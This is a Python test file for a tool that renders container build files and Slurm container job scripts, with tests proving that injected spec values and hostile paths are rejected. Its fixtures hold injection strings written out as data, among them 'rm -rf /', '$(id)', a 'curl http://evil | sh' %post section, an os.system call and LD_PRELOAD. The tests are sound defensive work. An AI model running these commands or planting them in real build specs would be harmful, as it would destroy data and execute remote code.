"""containers/spec.yml rendered to a Containerfile and an Apptainer .def; bad requests."""
from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from pyhpc import pins as pyhpc_pins
from pyhpc.cli import main as cli
from pyhpc.containers import build as container_build
from pyhpc.containers import spec as containers
from pyhpc.containers.spec import ContainerError

VARIANTS = ("cpu", "cuda")
DEF_SECTIONS = ["%labels", "%environment", "%files", "%post", "%runscript", "%test"]


@pytest.mark.parametrize("name", VARIANTS)
def test_containerfile_matches_golden(golden, name: str) -> None:
    golden.check(f"containers/Containerfile.{name}",
                 containers.render(containers.variant(name), "oci"))


@pytest.mark.parametrize("name", VARIANTS)
def test_apptainer_def_matches_golden(golden, name: str) -> None:
    text = containers.render(containers.variant(name), "apptainer")
    golden.check(f"containers/pyhpc-{name}.def", text)


@pytest.mark.parametrize("name", containers.SCRIPTS)
def test_baked_scripts_match_golden(golden, name: str) -> None:
    golden.check(f"containers/{name}.cpu",
                 containers.render_script(containers.variant("cpu"), name))


@pytest.mark.parametrize("name", VARIANTS)
def test_def_has_header_and_every_section_once_in_order(name: str) -> None:
    text = containers.render(containers.variant(name), "apptainer")
    assert re.match(r"^Bootstrap: (debootstrap|docker)\n", text)
    sections = re.findall(r"^%[a-z]+", text, flags=re.M)
    assert sections == DEF_SECTIONS
    for section in DEF_SECTIONS:
        body = text.split(section + "\n", 1)[1].split("\n%", 1)[0]
        assert body.strip(), f"{section} is empty"


@pytest.mark.parametrize("fmt", ["oci", "apptainer"])
def test_render_is_deterministic(fmt: str) -> None:
    assert containers.render(containers.variant("cpu"), fmt) == containers.render(
        containers.variant("cpu"), fmt)


@pytest.mark.parametrize("fmt", ["oci", "apptainer"])
def test_labels_carry_every_pinned_version(fmt: str) -> None:
    spec = containers.load_spec()
    text = containers.render(containers.variant("cpu"), fmt)
    pins = {"torch": spec["torch"], **spec["packages"]}
    for name, version in pins.items():
        key = "org.pyhpc.torch" if name == "torch" else f"org.pyhpc.pip.{name}"
        assert re.search(rf"{re.escape(key)}[= ]\"?{re.escape(version)}\"?( \\)?$", text,
                         flags=re.M), key
    for name, version in spec["variants"]["cpu"]["base"]["packages"].items():
        assert f"org.pyhpc.deb.{name}" in text and version in text
    for key in ("org.pyhpc.python", "org.pyhpc.cuda", "org.pyhpc.nccl"):
        assert key in text


def test_spec_pins_equal_runtime_requirements(repo_root: Path) -> None:
    runtime = dict(pyhpc_pins.pins(repo_root / "requirements/runtime.txt"))
    assert containers.variant("cpu").requirements == "".join(
        f"{k}=={v}\n" for k, v in sorted(runtime.items()))


def test_cpu_variant_takes_torch_from_cpu_wheels_only() -> None:
    var = containers.variant("cpu")
    assert var.wheels == {"find_links": ["/opt/wheels"]}
    assert var.cuda == "none"


def test_selftest_prints_versions_and_gpu_visibility() -> None:
    script = containers.render_script(containers.variant("cuda"), "pyhpc-selftest")
    for word in ("torch:", "cuda:", "nccl:", "gpu visible:"):
        assert word in script
    assert '"cuda": "12.8"' in script


def run_cli(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = cli.main(argv)
    return code, capsys.readouterr().err


@pytest.fixture
def no_subprocess(monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
    """Record, and refuse, every command the build would run: nothing may be built."""
    calls: list[list[str]] = []

    def fake(cmd: list[str], *args: object, **kwargs: object) -> subprocess.CompletedProcess[str]:
        calls.append(list(cmd))
        if cmd[-3:-1] == ["image", "exists"]:
            return subprocess.CompletedProcess(cmd, 1, "", "")
        raise AssertionError(f"build ran {cmd}")

    monkeypatch.setattr(container_build.subprocess, "run", fake)
    monkeypatch.setattr(container_build.subprocess, "Popen", fake)
    return calls


@pytest.mark.parametrize("command", ["render", "build"])
def test_unknown_variant_is_one_error_and_nothing_built(command, capsys, no_subprocess,
                                                        tmp_path) -> None:
    out = tmp_path / "Containerfile"
    code, err = run_cli(["containers", command, "--variant", "gpu",
                         *(["-o", str(out)] if command == "render" else
                           ["--images-dir", str(tmp_path)])], capsys)
    assert code == 2
    assert err == "pyhpc: error: variant: unknown variant 'gpu'; allowed: cpu, cuda\n"
    assert no_subprocess == [] and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("command", ["render", "build"])
def test_torch_version_not_in_spec_is_one_error(command, capsys, no_subprocess, tmp_path) -> None:
    code, err = run_cli(["containers", command, "--variant", "cpu", "--torch", "2.12.0",
                         *(["--images-dir", str(tmp_path)] if command == "build" else [])], capsys)
    assert code == 2
    assert err == ("pyhpc: error: torch: version '2.12.0' is not in containers/spec.yml; "
                   "allowed: 2.13.0\n")
    assert no_subprocess == [] and list(tmp_path.iterdir()) == []


def test_variant_without_base_is_one_error(capsys, monkeypatch, tmp_path) -> None:
    spec = containers.load_spec()
    del spec["variants"]["cuda"]["base"]
    path = tmp_path / "spec.yml"
    path.write_text(yaml.safe_dump(spec))
    monkeypatch.setenv("PYHPC_CONTAINER_SPEC", str(path))
    code, err = run_cli(["containers", "render", "--variant", "cuda"], capsys)
    assert code == 2
    assert err.startswith("pyhpc: error: variants.cuda.base: missing in containers/spec.yml")


def test_base_image_missing_locally_fails_before_any_download(no_subprocess, monkeypatch,
                                                              tmp_path) -> None:
    monkeypatch.setattr(container_build, "CACHE", tmp_path / "cache")
    monkeypatch.setattr(container_build.shutil, "which", lambda tool: f"/usr/bin/{tool}")
    with pytest.raises(ContainerError, match=r"^base: image 'docker.io/nvidia/cuda:.*' of variant "
                       r"'cuda' is missing from local storage"):
        container_build.build(containers.variant("cuda"), tmp_path / "images")
    assert [c[-3:-1] for c in no_subprocess] == [["image", "exists"]]
    assert list(tmp_path.iterdir()) == []


def test_unknown_format_is_one_error() -> None:
    with pytest.raises(ContainerError,
                       match="format: unknown format 'docker'; allowed: oci, apptainer"):
        containers.render(containers.variant("cpu"), "docker")


def test_unpinned_version_in_spec_is_one_error() -> None:
    spec = containers.load_spec()
    spec["packages"]["numpy"] = ">=2"
    with pytest.raises(ContainerError, match=r"^packages.numpy: '>=2' is not a pinned version"):
        containers.variant("cpu", spec=spec)


def test_render_writes_file(tmp_path: Path, capsys) -> None:
    out = tmp_path / "pyhpc-cpu.def"
    assert cli.main(["containers", "render", "--variant", "cpu", "--format", "apptainer",
                     "-o", str(out)]) == 0
    assert out.read_text() == containers.render(containers.variant("cpu"), "apptainer")


def test_cli_startup_and_render_do_not_import_torch() -> None:
    code = ("import sys, io, contextlib\nfrom pyhpc.cli import main as cli\n"
            "with contextlib.redirect_stdout(io.StringIO()):\n"
            "    cli.main(['containers', 'render', '--variant', 'cpu'])\n"
            "assert 'torch' not in sys.modules, 'torch imported'\n")
    subprocess.run([sys.executable, "-c", code], check=True)


JOB_VALUES = {"module": "pyhpc.train", "args": "--out run --mode synthetic",
              "binds": "/srv/data,/scratch/run-1"}


@pytest.mark.parametrize("runtime", ["podman", "apptainer", "enroot"])
def test_container_job_matches_golden(golden, runtime: str) -> None:
    from pyhpc import cluster, paths
    from pyhpc.slurm import render

    text = render.render("container", {**JOB_VALUES, "runtime": runtime},
                         cluster.load(paths.LAB_CLUSTER))
    golden.check(f"containers/container.sbatch.{runtime}", text)


def test_container_job_wraps_the_bare_job_line() -> None:
    from pyhpc import cluster, paths
    from pyhpc.slurm import render

    lab = cluster.load(paths.LAB_CLUSTER)
    bare = render.render("ddp-srun", {"module": "pyhpc.train", "args": "--out run"}, lab)
    boxed = render.render("container", {"module": "pyhpc.train", "args": "--out run"}, lab)
    srun_bare = next(line for line in bare.splitlines() if line.startswith("srun "))
    srun_boxed = next(line for line in boxed.splitlines() if line.startswith("srun "))
    head, _, tail = srun_bare.partition("/opt/pyhpc/venv/bin/python")
    assert srun_boxed.startswith(head + "/opt/pyhpc/venv/bin/python -P -m pyhpc.container_run ")
    assert srun_boxed.endswith(" -- /opt/pyhpc/venv/bin/python" + tail)


def test_container_job_starts_the_image_on_every_node_before_the_tasks(tmp_path: Path) -> None:
    """The check step runs first; when it fails the job prints its one line and exits 3,
    and the tasks never start."""
    from pyhpc import cluster, paths
    from pyhpc.slurm import render

    text = render.render("container", {"module": "pyhpc.train"}, cluster.load(paths.LAB_CLUSTER))
    body = text.split("export MASTER_PORT\n", 1)[1]
    fake = ('srun() { case "$*" in *--probe*) echo "pyhpc: the container runtime cannot start the '
            'image on cpu1: crun: no"; echo "pyhpc: ... on cpu2"; echo "srun: error" >&2; return 3;; '
            '*) echo TASKS-STARTED;; esac; }\n')
    proc = subprocess.run(["bash", "-c", "set -euo pipefail\n" + fake + body],
                          env={"SLURM_JOB_NUM_NODES": "2", "SLURM_JOB_ID": "7", "SLURM_NTASKS": "2",
                               "SLURM_JOB_NODELIST": "cpu[1-2]", "MASTER_ADDR": "cpu1",
                               "MASTER_PORT": "20007",
                               "PATH": "/usr/bin:/bin"},
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 3
    assert "TASKS-STARTED" not in proc.stdout
    assert proc.stderr == "pyhpc: the container runtime cannot start the image on cpu1: crun: no\n"


@pytest.mark.parametrize(("values", "message"), [
    ({"image": "/images/x; rm -rf /"}, r"^image: '/images/x; rm -rf /' is not allowed"),
    ({"image": "--fakeroot"}, r"^image: '--fakeroot' is not allowed"),
    ({"binds": "/a$(id)"}, r"^binds\[0\]: '/a\$\(id\)' is not allowed"),
    ({"binds": "/srv,relative"}, r"^binds\[1\]: 'relative' is not allowed; use an absolute path"),
])
def test_container_job_refuses_hostile_paths(values, message) -> None:
    from pyhpc import cluster, paths
    from pyhpc.slurm import render

    with pytest.raises(render.RenderError, match=message):
        render.render("container", {"module": "pyhpc.train", **values},
                      cluster.load(paths.LAB_CLUSTER))


def test_container_job_unknown_runtime_is_an_error() -> None:
    from pyhpc import cluster, paths
    from pyhpc.slurm import render

    with pytest.raises(render.RenderError) as err:
        render.render("container", {"module": "pyhpc.train", "runtime": "docker"},
                      cluster.load(paths.LAB_CLUSTER))
    assert str(err.value) == ("runtime: unknown container runtime docker; allowed: podman, "
                              "apptainer, enroot")


# --- Hardening: spec values never escape their quoting; one-line errors; -o; plain-argument build.

def test_container_error_is_a_pyhpc_error() -> None:
    from pyhpc.errors import PyhpcError

    assert issubclass(ContainerError, PyhpcError)
    with pytest.raises(PyhpcError) as err:
        containers.variant("gpu")
    assert err.value.arg == "variant"


def _spec_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mutate) -> Path:
    spec = containers.load_spec()
    mutate(spec)
    path = tmp_path / "spec" / "spec.yml"
    path.parent.mkdir()
    path.write_text(yaml.safe_dump(spec, allow_unicode=True))
    monkeypatch.setenv("PYHPC_CONTAINER_SPEC", str(path))
    return path


def _set(keys: str, value: object):
    """A mutation of the spec: set the dotted key ``keys`` to ``value``."""
    def mutate(spec: dict) -> None:
        *parents, last = keys.split(".")
        for key in parents:
            spec = spec[key]
        spec[last] = value
    return mutate


#: Values that escaped their place before the fix (the first three were reproduced:
#: code run by the self-test, a %post section from a description, an env file entry).
ESCAPES = {
    "name": 'x"); import os; os.system("id"); ("',
    "variants.cpu.description": "CPU image\n%post\n    curl http://evil | sh",
    "environment.PYTHONUNBUFFERED": "1\nLD_PRELOAD=/tmp/evil.so",
    "torch": "2.13.0\n",
    "variants.cpu.python": "3.11\nLABEL x=y",
    "variants.cpu.base.image": "debian\nRUN id",
    "variants.cpu.base.mirror": "http://deb.debian.org/debian\n%post",
    "variants.cpu.base.sources": ["deb http://deb.debian.org/debian bookworm main\nSOURCES"],
    "variants.cpu.wheels.find_links": ["/opt/wheels --index-url http://evil"],
    "venv": "/opt/pyhpc/venv; id",
    "mount_points": ["/scratch\nRUN id"],
    "packages.numpy": "2.4.6\nRUN id",
}


@pytest.mark.parametrize("fmt", ["oci", "apptainer"])
@pytest.mark.parametrize("key", sorted(ESCAPES))
def test_spec_value_that_could_escape_is_one_error_and_nothing_written(
        key: str, fmt: str, capsys, monkeypatch, tmp_path) -> None:
    _spec_file(tmp_path, monkeypatch, _set(key, ESCAPES[key]))
    out = tmp_path / "Containerfile"
    code, err = run_cli(["containers", "render", "--variant", "cpu", "--format", fmt,
                         "-o", str(out)], capsys)
    assert code == 2
    where = re.sub(r"(\.sources|\.find_links|^mount_points)$", r"\1[0]", key)
    assert err.startswith(f"pyhpc: error: {where}: ") and err.count("\n") == 1, err
    assert not out.exists()


def test_selftest_renders_values_as_python_literals() -> None:
    import ast
    import dataclasses

    evil = 'x"); import os; os.system("id"); ("'
    var = dataclasses.replace(containers.variant("cpu"), image=evil, torch="2'13\"0\\")
    script = containers.render_script(var, "pyhpc-selftest")
    python = script.split("<<'PY'\n")[1].split("\nPY\n")[0]
    calls = [node for node in ast.walk(ast.parse(python)) if isinstance(node, ast.Call)
             and getattr(node.func, "id", "") == "print" and node.args
             and getattr(node.args[0], "value", "") == "image:"]
    assert [ast.literal_eval(call.args[1]) for call in calls] == [evil]
    assert 'os.system("id")' not in python  # only the literal's escaped form
    proc = subprocess.run(["sh", "-n"], input=script, text=True, check=False)
    assert proc.returncode == 0


def test_templates_refuse_a_line_break_that_bypassed_the_spec_check() -> None:
    import dataclasses

    var = dataclasses.replace(containers.variant("cpu"),
                              description="CPU image\n%post\n    id")
    for fmt in ("oci", "apptainer"):
        with pytest.raises(ContainerError, match=r"^render: .*CPU image\\n%post"):
            containers.render(var, fmt)


def test_env_file_never_splits_a_line() -> None:
    import dataclasses

    var = containers.variant("cpu")
    assert containers.env_file(var) == "".join(f"{k}={v}\n" for k, v in var.env())
    evil = dataclasses.replace(var, environment={"A": "1\nLD_PRELOAD=/tmp/evil.so"})
    with pytest.raises(ContainerError, match=r"^environment.A: '1\\nLD_PRELOAD"):
        containers.env_file(evil)


def test_containerfile_labels_are_quoted_literally() -> None:
    import dataclasses

    var = dataclasses.replace(containers.variant("cpu"), description='a "b" $HOME \\ %post')
    text = containers.render(var, "oci")
    assert ('org.opencontainers.image.description="a \\"b\\" \\$HOME \\\\ %post" \\\n'
            in text)


WRONG_TYPES = {
    "packages": (["numpy==2.4.6"], "must be a mapping (key: value), got a list"),
    "environment": (["A=1"], "must be a mapping (key: value), got a list"),
    "variants": (["cpu"], "must be a mapping (key: value), got a list"),
    "variants.cpu": (["base"], "must be a mapping (key: value), got a list"),
    "variants.cpu.base": ("debian:12", "must be a mapping (key: value), got text"),
    "variants.cpu.base.packages": (["python3"], "must be a mapping (key: value), got a list"),
    "variants.cpu.base.sources": ({"deb": "x"}, "must be a list, got a mapping"),
    "variants.cpu.wheels": (["/opt/wheels"], "must be a mapping (key: value), got a list"),
    "variants.cpu.wheels.find_links": ({"a": "/opt/wheels"}, "must be a list, got a mapping"),
    "mount_points": ("/scratch", "must be a list, got text"),
}


@pytest.mark.parametrize("key", sorted(WRONG_TYPES))
def test_wrong_type_in_spec_is_one_error_naming_the_key(key, capsys, monkeypatch,
                                                        tmp_path) -> None:
    value, problem = WRONG_TYPES[key]
    _spec_file(tmp_path, monkeypatch, _set(key, value))
    code, err = run_cli(["containers", "render", "--variant", "cpu"], capsys)
    assert code == 2
    assert err == f"pyhpc: error: {key}: {problem}\n"


def test_unknown_key_in_spec_is_one_error(capsys, monkeypatch, tmp_path) -> None:
    _spec_file(tmp_path, monkeypatch, _set("variants.cpu.enviroment", {"A": "1"}))
    code, err = run_cli(["containers", "render", "--variant", "cpu"], capsys)
    assert code == 2
    assert err == ("pyhpc: error: variants.cpu: unknown key 'enviroment'; allowed: base, cuda, "
                   "description, nccl, python, wheels\n")


@pytest.mark.parametrize("text, problem", [
    (b"variants: [cpu\n", "not valid YAML"),
    (b"torch: '1'\ntorch: '2'\n", "duplicate key 'torch'"),
    (b"a: &x {b: 1}\nc: *x\n", "aliases (*name) are not allowed"),
    (b"name: \xff\xfe\n", "container spec is not UTF-8 text"),
    (b"- torch\n- venv\n", "spec: must be a mapping (key: value), got a list"),
])
def test_unreadable_spec_is_one_error(text, problem, capsys, monkeypatch, tmp_path) -> None:
    path = tmp_path / "spec.yml"
    path.write_bytes(text)
    monkeypatch.setenv("PYHPC_CONTAINER_SPEC", str(path))
    out = tmp_path / "out"
    code, err = run_cli(["containers", "render", "--variant", "cpu", "-o", str(out)], capsys)
    assert code == 2
    assert err.startswith("pyhpc: error: ") and err.count("\n") == 1 and problem in err, err
    assert not out.exists()


def test_render_output_directory_is_one_error(capsys, tmp_path) -> None:
    code, err = run_cli(["containers", "render", "--variant", "cpu", "-o", str(tmp_path)], capsys)
    assert code == 2
    assert err == f"pyhpc: error: output: {tmp_path} is a directory; give a file name\n"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("under", ["missing", "missing/deeper"])
def test_render_output_under_missing_directory_is_one_error(under, capsys, tmp_path) -> None:
    out = tmp_path / under / "Containerfile"
    code, err = run_cli(["containers", "render", "--variant", "cpu", "-o", str(out)], capsys)
    assert code == 2
    assert err == f"pyhpc: error: output: directory {out.parent} does not exist\n"
    assert list(tmp_path.iterdir()) == []


def test_render_output_under_a_file_is_one_error(capsys, tmp_path) -> None:
    (tmp_path / "file").write_text("keep\n")
    out = tmp_path / "file" / "Containerfile"
    code, err = run_cli(["containers", "render", "--variant", "cpu", "-o", str(out)], capsys)
    assert code == 2
    assert err == f"pyhpc: error: output: {tmp_path / 'file'} is not a directory\n"
    assert (tmp_path / "file").read_text() == "keep\n"


def test_render_output_replaces_a_planted_symlink_never_follows_it(capsys, tmp_path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    out = tmp_path / "Containerfile"
    out.symlink_to(victim)
    assert cli.main(["containers", "render", "--variant", "cpu", "-o", str(out)]) == 0
    assert victim.read_text() == "precious\n"
    assert not out.is_symlink()
    assert out.read_text() == containers.render(containers.variant("cpu"), "oci")
    assert out.stat().st_mode & 0o077 == 0
    assert capsys.readouterr().out == ""


def test_cmd_build_passes_plain_arguments_and_prints_the_selftest(capsys, monkeypatch,
                                                                   tmp_path) -> None:
    calls = []

    def fake(*args: object, **kwargs: object) -> dict[str, object]:
        calls.append((args, kwargs))
        return {"selftest": ["torch: 2.13.0", "selftest: ok"]}

    monkeypatch.setattr(container_build, "build_variant", fake)
    assert cli.main(["containers", "build", "--variant", "cpu", "--images-dir", str(tmp_path),
                     "--force"]) == 0
    assert calls == [(("cpu", None, tmp_path),
                      {"oci_archive": False, "force": True, "context_only": False})]
    assert capsys.readouterr().out == "  torch: 2.13.0\n  selftest: ok\n"


def test_build_variant_resolves_the_variant_and_builds_under_the_lock(monkeypatch,
                                                                      tmp_path) -> None:
    calls = []

    def fake(var, images_dir, **kwargs):
        calls.append((var.name, var.torch, images_dir, kwargs))
        return {"context": "ready"}

    monkeypatch.setattr(container_build, "CACHE", tmp_path / "cache")
    monkeypatch.setattr(container_build, "build", fake)
    record = container_build.build_variant("cuda", "2.13.0", tmp_path / "images",
                                           context_only=True)
    assert record == {"context": "ready"}
    assert calls == [("cuda", "2.13.0", tmp_path / "images",
                      {"oci_archive": False, "force": False, "context_only": True})]
    assert (tmp_path / "cache" / "build.lock").exists()


@pytest.mark.parametrize(("name", "cuda"), [
    ("nvidia_ml_py-13.615.71-py3-none-any.whl", False),  # NVML's bindings: pure Python
    ("torch-2.13.0+cpu-cp311-cp311-linux_x86_64.whl", False),
    ("torch-2.13.0+cu128-cp311-cp311-linux_x86_64.whl", True),
    ("nvidia_cublas_cu12-12.8.4.1-py3-none-manylinux_2_27_x86_64.whl", True),
    ("nvidia_nccl_cu13-2.28.3-py3-none-manylinux_2_18_x86_64.whl", True),
])
def test_a_cpu_image_refuses_cuda_wheels_but_not_nvml_bindings(name: str, cuda: bool) -> None:
    from pyhpc.containers.build import cuda_wheel

    assert cuda_wheel(name) is cuda
